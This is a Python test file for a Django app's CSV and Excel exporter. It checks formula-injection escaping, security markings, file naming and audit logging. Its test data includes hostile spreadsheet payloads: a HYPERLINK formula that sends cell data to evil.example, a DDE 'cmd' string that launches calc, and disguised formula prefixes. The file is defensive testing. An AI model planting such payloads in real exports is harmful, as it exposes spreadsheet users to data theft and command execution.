"""The core exporter: marking first, formula-safe cells in CSV and Excel alike, marked file names, logged."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.http import Http404
from django.test import RequestFactory
from openpyxl import load_workbook

from mshtgov.audit import hashed_term
from mshtgov.exports import export_response, safe_text
from mshtgov.marking import Marking
from mshtgov.models import AccessAction, AccessLog

# What a hostile user might type into a title or a note, and what the export must hold instead.
PAYLOADS = [
    (
        '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("   =1+1", "'   =1+1"),  # after leading spaces
    ("\u00a0\u3000@cmd", "'\u00a0\u3000@cmd"),  # after no-break and ideographic spaces
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals
    ("\uff0bcmd", "'\uff0bcmd"),
    ("\uff0dcmd", "'\uff0dcmd"),
    ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
    ("  \uff1d1+1", "'  \uff1d1+1"),
]
HARMLESS = ["plain", "a = b", "email@example.org", "2+2", "", "   spaced"]


@pytest.mark.parametrize(("value", "written"), PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert safe_text(value) == written


@pytest.mark.parametrize("value", HARMLESS)
def test_ordinary_text_is_left_alone(value):
    assert safe_text(value) == value


def test_none_is_an_empty_cell():
    assert safe_text(None) == ""


@pytest.fixture
def request_as(users):
    def make(role="analyst", query=""):
        request = RequestFactory().get(f"/things/export.csv?{query}")
        request.user = users[role]
        return request

    return make


def _export(request, fmt, rows, marking=Marking.OFFICIAL, **extra):
    kwargs = {
        "filename": "Things of note",
        "title": "Things: of note?",
        "headers": ["Name", "Count", "When"],
        "rows": rows,
        "marking": marking,
        "filters": {"q": "harbour", "status": "", "kind": ["a", "b"]},
        "object_type": "tests.thing",
    }
    kwargs.update(extra)
    return export_response(request, fmt, **kwargs)


def _csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_csv_has_the_marking_first_then_headers_then_safe_rows(request_as):
    rows = [[value, 1, date(2025, 3, 1)] for value, _ in PAYLOADS]
    written = _csv(_export(request_as(), "csv", rows))
    assert written[0] == ["OFFICIAL"]
    assert written[1] == ["Name", "Count", "When"]
    assert [row[0] for row in written[2:]] == [expected for _, expected in PAYLOADS]
    assert written[2][1:] == ["1", "2025-03-01"]


def test_excel_holds_the_same_safe_text_and_no_formula(request_as):
    rows = [[value, -3, date(2025, 3, 1)] for value, _ in PAYLOADS]
    sheet, values = _xlsx(_export(request_as(), "xlsx", rows, marking=Marking.OFFICIAL_SENSITIVE))
    assert values[0][0] == "OFFICIAL-SENSITIVE"
    assert values[1] == ["Name", "Count", "When"]
    # XML reads a carriage return back as a line feed; the apostrophe in front is what matters.
    assert [row[0] for row in values[2:]] == [expected.replace("\r", "\n") for _, expected in PAYLOADS]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # Numbers and dates keep their type: a negative number is data, not a formula.
    assert values[2][1] == -3 and values[2][2] == datetime(2025, 3, 1)
    assert sheet.title == "Things  of note"
    assert sheet.HeaderFooter.oddHeader.center.text == "OFFICIAL-SENSITIVE"
    assert sheet.HeaderFooter.oddFooter.center.text == "OFFICIAL-SENSITIVE"


def test_the_file_carries_the_highest_marking_of_its_rows_in_its_name(request_as):
    response = _export(request_as(), "csv", [["a", 1, None]], marking=[Marking.OFFICIAL, Marking.OFFICIAL_SENSITIVE])
    assert response["Content-Disposition"] == 'attachment; filename="things-of-note-OFFICIAL-SENSITIVE.csv"'
    assert _csv(response)[0] == ["OFFICIAL-SENSITIVE"]
    response = _export(request_as(), "xlsx", [], marking=[])
    assert response["Content-Disposition"] == 'attachment; filename="things-of-note-OFFICIAL.xlsx"'


def test_the_site_default_is_the_lowest_marking(request_as, settings):
    settings.SITE_DEFAULT_MARKING = "official-sensitive"
    assert _csv(_export(request_as(), "csv", [["a", 1, None]]))[0] == ["OFFICIAL-SENSITIVE"]


def test_numbers_decimals_booleans_and_times_are_written_plainly(request_as):
    at = datetime(2025, 6, 1, 12, 0, tzinfo=UTC)  # summer time: London is an hour ahead
    written = _csv(_export(request_as(), "csv", [[Decimal("-1.50"), True, at]]))
    assert written[2] == ["-1.50", "Yes", "2025-06-01 13:00"]


def test_each_export_is_a_logged_disclosure_with_its_filters(request_as):
    _export(request_as("leader", "q=harbour"), "xlsx", [["a", 1, None], ["b", 2, None]], ids=[7, 9])
    log = AccessLog.objects.get()
    assert log.action == AccessAction.DISCLOSE and log.username == "leader"
    assert log.object_type == "tests.thing" and log.marking == Marking.OFFICIAL
    assert log.path == "/things/export.csv"  # no query string: typed words never reach the log (issue 11)
    assert log.detail == {
        "format": "xlsx",
        # Filters not in use are left out; typed words only as a salted hash and length (mshtgov.audit).
        "filters": {"q": hashed_term("harbour"), "kind": [hashed_term("a"), hashed_term("b")]},
        "marking": "OFFICIAL",
        "rows": 2,
        "ids": [7, 9],
    }
    assert log.object_repr == "Things: of note? export: 2 rows (XLSX)"


@pytest.mark.parametrize("fmt", ["pdf", "CSV", "", "csv\x00"])
def test_an_unknown_format_is_not_found_and_not_logged(request_as, fmt):
    with pytest.raises(Http404):
        _export(request_as(), fmt, [["a", 1, None]])
    assert not AccessLog.objects.exists()
